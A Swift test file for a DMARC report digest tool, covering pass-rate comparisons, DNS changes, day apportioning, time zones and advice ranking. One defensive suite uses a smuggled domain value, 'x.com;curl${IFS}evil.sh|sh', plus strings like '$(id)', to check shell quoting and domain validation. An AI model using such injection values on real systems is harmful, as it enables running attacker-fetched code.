import Foundation
import ReportModel
import ReportPipeline
import ReportStore
import ReportTestSupport
import Testing

@testable import ReportAnalysis

/// Epoch seconds of a UTC date (`2025-11-10`) or time.
func epoch(_ text: String) -> Int64 {
    (try? DateArgument.parse(text, now: 0)) ?? 0
}

/// Writes the reports as XML files and imports them into a fresh database.
func database(with reports: [SyntheticReport], in temp: TemporaryDirectory) throws -> ReportDatabase {
    let database = try temp.makeDatabase()
    var paths: [String] = []
    for (index, report) in reports.enumerated() {
        paths.append(try temp.write("report-\(index).xml", report.xml))
    }
    let summary = try ImportPipeline(database: database).importPaths(paths)
    #expect(summary.stored == reports.count)
    return database
}

/// Two synthetic weeks: the previous one clean, the current one with a source that started failing, a
/// new failing source, a three-day report, and a reporter gone silent.
func twoWeeks() -> [SyntheticReport] {
    var reports: [SyntheticReport] = []
    for day in 0..<7 {
        let begin = epoch("2025-11-03") + Int64(day) * 86_400
        reports.append(
            SyntheticReport(org: "Alpha", reportID: "a-prev-\(day)", begin: begin, rows: [.init("192.0.2.1", 100)]))
    }
    reports.append(
        SyntheticReport(org: "Beta", reportID: "b-prev", begin: epoch("2025-11-05"), rows: [.init("192.0.2.1", 50)]))
    for day in 0..<7 {
        let begin = epoch("2025-11-10") + Int64(day) * 86_400
        reports.append(
            SyntheticReport(
                org: "Alpha", reportID: "a-cur-\(day)", begin: begin,
                rows: [.init("192.0.2.1", 80), .init("192.0.2.1", 20, dkim: "fail", spf: "fail")]))
    }
    reports.append(
        SyntheticReport(
            org: "Alpha", reportID: "a-new", begin: epoch("2025-11-13T00:00:00Z") + 1,
            end: epoch("2025-11-13T12:00:00Z"), rows: [.init("198.51.100.9", 10, dkim: "fail", spf: "fail")]))
    reports.append(
        SyntheticReport(
            org: "Gamma", reportID: "g-3days", begin: epoch("2025-11-12"), end: epoch("2025-11-14") + 86_399,
            rows: [.init("192.0.2.2", 300)]))
    return reports
}

@Suite struct DigestTests {
    let now = epoch("2025-11-17T08:00:00Z")

    @Test func recordChangesStandBesideThePassRateDropTheyMayExplain() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let before = [(kind: "spf", value: "v=spf1 include:_spf.esp.example mx -all")]
        _ = try database.recordDNS(domain: "example.com", records: before, at: epoch("2025-11-01T06:00:00Z"))
        _ = try database.recordDNS(
            domain: "example.com", records: [(kind: "spf", value: "v=spf1 mx -all")],
            at: epoch("2025-11-10T06:00:00Z"))
        // A change long before the periods is not news.
        _ = try database.recordDNS(domain: "other.example", records: before, at: epoch("2025-09-01T06:00:00Z"))
        _ = try database.recordDNS(domain: "other.example", records: [], at: epoch("2025-09-02T06:00:00Z"))
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: now))
        #expect(digest.recordChanges.map(\.domain) == ["example.com"])
        let changed = try #require(digest.advice.first { $0.code == "dns_changed" })
        #expect(changed.text.hasPrefix("SPF changed: include:_spf.esp.example removed (seen by rua check on "))
        let drop = try #require(digest.advice.first { $0.code == "pass_rate_drop" })
        #expect(drop.text.contains("; the DNS changed meanwhile: SPF changed: include:_spf.esp.example removed"))
    }

    @Test func thePeriodIsComparedWithTheOneBefore() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let period = ReportPeriod.lastFullDays(7, now: now)
        #expect(period.label == "2025-11-10 – 2025-11-16 (UTC)")
        let digest = try DigestBuilder.build(database, period: period)
        let domain = try #require(digest.domains.first)
        #expect(domain.totals.messages == 1_010)
        #expect(domain.totals.dmarcPass == 860)
        #expect(domain.previous.messages == 750)
        #expect(domain.previous.dmarcPass == 750)
        let change = try #require(domain.passRateChange)
        #expect(abs(change - (860.0 / 1_010.0 - 1) * 100) < 1e-9)
        #expect(domain.reporters == ["Alpha", "Gamma"])
        #expect(digest.advice.contains { $0.text.hasPrefix("DMARC pass rate fell from 100.0% to 85.1%") })
    }

    @Test func multiDayReportsAreApportionedAndTheSeriesAddsUp() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: now))
        let days = try #require(digest.domains.first).days
        #expect(days.map(\.label).first == "2025-11-10")
        #expect(days.map(\.messages) == [100, 100, 200, 210, 200, 100, 100])
        #expect(days.reduce(0) { $0 + $1.messages } == 1_010)
    }

    @Test func aReporterThatStoppedIsCalledSilent() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: now))
        #expect(digest.silentReporters.map(\.reporter) == ["Beta"])
        #expect(digest.silentReporters.first?.earlierReports == 1)
        #expect(
            digest.advice.contains { $0.text.hasPrefix("Beta sent 1 report in the four weeks before and none now") })
    }

    @Test func newSourcesAndSourcesThatStartedFailingAreNamed() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: now))
        #expect(digest.newSources.map(\.sourceIP) == ["198.51.100.9", "192.0.2.2"])
        #expect(digest.startedFailing.map(\.sourceIP) == ["192.0.2.1"])
        #expect(digest.startedFailing.first?.messages == 700)
        #expect(digest.startedFailing.first?.dmarcPass == 560)
    }

    @Test func aPeriodWithoutReportsSaysSo() throws {
        let temp = try TemporaryDirectory()
        let database = try database(with: twoWeeks(), in: temp)
        let later = epoch("2026-03-01")
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: later))
        #expect(digest.isEmpty)
    }

    @Test func daysAreCountedInTheRequestedTimeZone() throws {
        let zone = try #require(TimeZone(identifier: "America/New_York"))
        let period = ReportPeriod.lastFullDays(7, now: now, timeZone: zone)
        // Midnight in New York is 05:00 UTC in November.
        #expect(period.start == epoch("2025-11-10T05:00:00Z"))
        #expect(period.end == epoch("2025-11-17T05:00:00Z"))
        // A report of the UTC day 2025-11-12 spans the evening of the 11th and most of the 12th there.
        let shares = period.apportion(
            begin: epoch("2025-11-12"), end: epoch("2025-11-12") + 86_399, dayStarts: period.dayStarts)
        #expect(shares.map(\.day) == [1, 2])
        #expect(abs(shares[0].share - 5.0 / 24) < 1e-9)
        #expect(period.label == "2025-11-10 – 2025-11-16 (America/New_York)")
    }

    @Test func theDaylightSavingChangeMakesNoExtraDay() throws {
        let zone = try #require(TimeZone(identifier: "Europe/Berlin"))
        let now = epoch("2025-10-30T12:00:00Z")
        let period = ReportPeriod.lastFullDays(7, now: now, timeZone: zone)
        #expect(period.dayStarts.count == 7)
        #expect(period.end - period.start == 7 * 86_400 + 3_600)
    }
}

@Suite struct DateArgumentZoneTests {
    @Test func aBareDateIsADayInTheGivenZone() throws {
        let berlin = try #require(TimeZone(identifier: "Europe/Berlin"))
        #expect(try DateArgument.parse("2025-12-01", now: 0, timeZone: berlin) == epoch("2025-11-30T23:00:00Z"))
        #expect(
            try DateArgument.parse("2025-12-01", now: 0, endOfDay: true, timeZone: berlin)
                == epoch("2025-12-01T22:59:59Z"))
        // The day the clocks go back has 25 hours.
        #expect(
            try DateArgument.parse("2025-10-26", now: 0, endOfDay: true, timeZone: berlin)
                - DateArgument.parse("2025-10-26", now: 0, timeZone: berlin) == 25 * 3_600 - 1)
        // A time carries its own offset; the zone does not move it.
        #expect(
            try DateArgument.parse("2025-12-01T12:00:00Z", now: 0, timeZone: berlin) == epoch("2025-12-01T12:00:00Z"))
    }
}

/// Report data is attacker-controlled: advice that shows a command never makes report data runnable.
@Suite struct HostileAdviceTests {
    @Test func aPolicyDomainInAnAdvisedCommandIsQuotedForTheShell() throws {
        let hostile = "x.com;curl${IFS}evil.sh|sh"
        let reports = twoWeeks().map { report in
            var report = report
            report.domain = hostile
            return report
        }
        let temp = try TemporaryDirectory()
        let database = try database(with: reports, in: temp)
        let digest = try DigestBuilder.build(database, period: .lastFullDays(7, now: epoch("2025-11-17T08:00:00Z")))
        let commands = digest.advice.map(\.text).filter { $0.contains("rua failures --domain") }
        #expect(!commands.isEmpty)
        #expect(commands.allSatisfy { $0.contains("--domain 'x.com;curl${ifs}evil.sh|sh'") })
    }

    @Test func shellWordsQuoteEverythingAShellWouldRead() {
        #expect(DomainName.shellWord("example.com") == "example.com")
        #expect(DomainName.shellWord("a b") == "'a b'")
        #expect(DomainName.shellWord("it's;rm") == "'it'\\''s;rm'")
        #expect(DomainName.shellWord("$(id)") == "'$(id)'")
        #expect(DomainName.shellWord("") == "''")
    }

    @Test func domainNamesAreCheckedForShape() {
        #expect(DomainName.isValid("example.com"))
        #expect(DomainName.isValid("_dmarc.göpher.test"))
        #expect(!DomainName.isValid("x.com;curl${IFS}evil.sh|sh"))
        #expect(!DomainName.isValid("a..b"))
        #expect(!DomainName.isValid(String(repeating: "a", count: 64) + ".com"))
    }
}

/// The digest keeps the first sources of any number without holding them all.
@Suite struct TopSourcesTests {
    @Test func theKeptSourcesAreTheFirstOfAllInTheirOrder() {
        var generator = SystemRandomNumberGenerator()
        let all = (0..<1_000).map { index in
            SourceActivity(
                policyDomain: "d\(index % 7).example", sourceIP: "192.0.2.\(index % 250)",
                messages: Double(Int.random(in: 1...500, using: &generator)),
                dmarcPass: Double(Int.random(in: 0...1, using: &generator)), seenBefore: false, earlierMessages: 0,
                earlierPass: 0, headerFrom: [])
        }
        var top = TopSources(limit: 25)
        for source in all { top.add(source) }
        let expected = Array(all.sorted(by: DigestBuilder.mostFailingFirst).prefix(25))
        #expect(
            top.ranked.map { [$0.policyDomain, $0.sourceIP, "\($0.messages)"] }
                == expected.map { [$0.policyDomain, $0.sourceIP, "\($0.messages)"] })
    }
}

/// What needs attention is data, ranked; policy steps are advised only on evidence.
@Suite struct AttentionTests {
    /// Daily reports of `reporters` for `days` days up to the period's end (2025-11-17), all aligned.
    func aligned(days: Int, reporters: [String], messages: Int) -> [SyntheticReport] {
        (0..<days).flatMap { day in
            reporters.map { reporter in
                SyntheticReport(
                    org: reporter, reportID: "\(reporter)-\(day)", begin: epoch("2025-11-16") - Int64(day) * 86_400,
                    rows: [.init("192.0.2.1", messages)])
            }
        }
    }

    func advice(_ reports: [SyntheticReport]) throws -> [Digest.Advice] {
        let temp = try TemporaryDirectory()
        let db = try database(with: reports, in: temp)
        let period = ReportPeriod.lastFullDays(7, now: epoch("2025-11-17T08:00:00Z"), timeZone: .utc)
        return try DigestBuilder.build(db, period: period).advice
    }

    @Test func readinessNeedsFourteenDaysTwoReportersAndAThousandMessages() throws {
        // Four days of two reporters: too little to advise enforcing.
        #expect(
            try advice(aligned(days: 4, reporters: ["Alpha", "Beta"], messages: 500)).filter {
                $0.code.hasPrefix("ready")
            }.isEmpty)
        // Twenty days of one reporter: one reporter is not enough either.
        #expect(
            try advice(aligned(days: 20, reporters: ["Alpha"], messages: 500)).filter {
                $0.code.hasPrefix("ready")
            }.isEmpty)
        let ready = try #require(
            try advice(aligned(days: 20, reporters: ["Alpha", "Beta"], messages: 100)).first {
                $0.code == "ready_for_quarantine"
            })
        #expect(ready.severity == .info)
        #expect(ready.text.contains("publish p=quarantine; t=y first, then drop t=y"))
        #expect(ready.text.contains("20 days with reports from 2 reporters, 100.0% of 4000 messages aligned"))
        #expect(ready.numbers.contains { $0.name == "days" && $0.value == 20 })
        #expect(ready.numbers.contains { $0.name == "reporters" && $0.value == 2 })
    }

    @Test func itemsAreRankedBySeverityThenByWhatTheyConcern() throws {
        let items = try advice(twoWeeks())
        #expect(!items.isEmpty)
        let ranks = items.map(\.severity.rank)
        #expect(ranks == ranks.sorted())
        for severity in Digest.Advice.Severity.allCases {
            let weights = items.filter { $0.severity == severity }.map(\.weight)
            #expect(weights == weights.sorted(by: >), "\(severity)")
        }
        #expect(items.contains { $0.code == "new_failing_source" && $0.sourceIP == "198.51.100.9" })
        #expect(items.contains { $0.code == "reporter_silent" && $0.reporter == "Beta" })
    }
}
